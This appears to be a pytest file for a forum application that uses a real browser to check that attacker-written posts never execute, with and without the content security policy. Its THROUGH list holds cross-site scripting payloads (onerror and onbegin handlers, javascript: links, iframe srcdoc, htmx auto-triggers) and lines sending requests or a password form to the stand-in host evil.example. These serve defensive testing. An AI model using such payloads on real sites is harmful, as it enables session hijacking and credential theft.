"""Attackers write whatever the corpora know wherever the forum lets them, and a real browser shows all of it.

Once as everybody meets it, where a single violation of the content security policy fails (it would mean that something
unsafe reached the page), and once without the policy, so that renderer, sanitiser and templates hold alone.
A tenth of the texts, each page in one of the two ways; with PROVE=1 all of them in both.
"""

from __future__ import annotations

import pytest

from forum.core.markup import render
from forum.posts.models import Post
from tests import cast
from tests.journeys.alarm import Alarm
from tests.journeys.walls import attacks, written_on
from tests.machines.browser import Watch, person
from tests.machines.databases import writing
from tests.machines.proof import PROVE


@pytest.mark.parametrize("way", [0, 1], ids=["with the policy", "without the policy"])
def test_nothing_that_an_attacker_wrote_is_ever_run(app, live, client, browse, way):
    walls = written_on(app, attacks())
    alarm = Alarm(come_in(app, live, client, browse(bypass_csp=bool(way)), walls.administrator))
    pages = walls.pages if PROVE else walls.pages[way::2]
    for path in pages:
        alarm.look_at(path)
    assert alarm.wrong == []
    assert alarm.prose > 100
    assert len(pages) > 40


def come_in(app, live, client, page, person):
    """Signed in without the form, in the browser."""
    with writing(app) as session:
        cast.sign_in(client, session, person)
    cookie = client.get_cookie("trellis", domain=live.split("//")[1].partition(":")[0])
    page.context.add_cookies([{"name": "trellis", "value": cookie.value, "url": live}])
    return page


# ── the alarm itself ──────────────────────────────────────────────────────────────────────────────────────────────────

THROUGH = [
    "<p><img src=/static/none.png onerror=alert(1)></p>",
    "<p><a id=bait href='javascript:alert(1)'>here</a></p>",
    "<script>window.stolen = 1</script>",
    "<script>'with the policy'</script>",
    "<p><svg><animate onbegin=alert(1) attributeName=x dur=1s></svg></p>",
    "<p><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></p>",
    "<p style='background: url(https://evil.example/x)'>seen</p>",
    "<p><a href='/x' hx-get='/settings' hx-trigger=load>x</a></p>",
    "<p><img src='https://evil.example/pixel.png'></p>",
    "<form action='https://evil.example'><input name=password></form>",
]


def test_an_attack_that_got_through_would_be_heard(app, live, browser):
    """Written past the sanitiser on purpose: an alarm that nothing can set off proves nothing."""
    with writing(app) as session:
        topic = cast.topic(session, cast.board(session), cast.member(session, "eve"))
    unheard = []
    for html in THROUGH:
        with writing(app) as session:
            session.get_one(Post, topic.last_post_id).html = html
        watch = Watch(live)
        with person(browser, watch, bypass_csp="policy" not in html) as page:
            alarm = Alarm(page)
            alarm.look_at(f"/t/{topic.id}")
            page.wait_for_timeout(50)
        unheard += [] if alarm.wrong or watch.complaints else [html]
    assert unheard == []


def test_a_text_that_is_harmless_sets_nothing_off(app, live, page):
    with writing(app) as session:
        topic = cast.topic(session, cast.board(session), cast.member(session, "bea"))
        html = render("Some *words* & a [link](https://example.org), `code`.").html
        session.get_one(Post, topic.last_post_id).html = html
    alarm = Alarm(page)
    alarm.look_at(f"/t/{topic.id}")
    assert alarm.wrong == []
    assert alarm.prose >= 3
